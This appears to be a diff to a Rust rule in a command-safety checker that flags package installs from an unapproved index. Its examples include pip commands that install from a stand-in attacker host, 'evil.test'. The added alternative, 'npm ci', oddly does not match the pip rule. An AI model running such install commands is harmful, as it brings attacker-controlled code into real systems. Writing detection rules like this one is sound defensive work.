@@ -9,6 +9,7 @@ rule! {
     /// Use the registry that the project is set up for.
     pub struct PackageIndexChange;
     id: "package-index-change", pack: SupplyChain, level: Ask,
+    instead: ["npm ci"],
     examples: [
         hit Shell("pip install --index-url http://evil.test/simple requests"),
         hit Shell("pip install -i https://evil.test/simple x"),
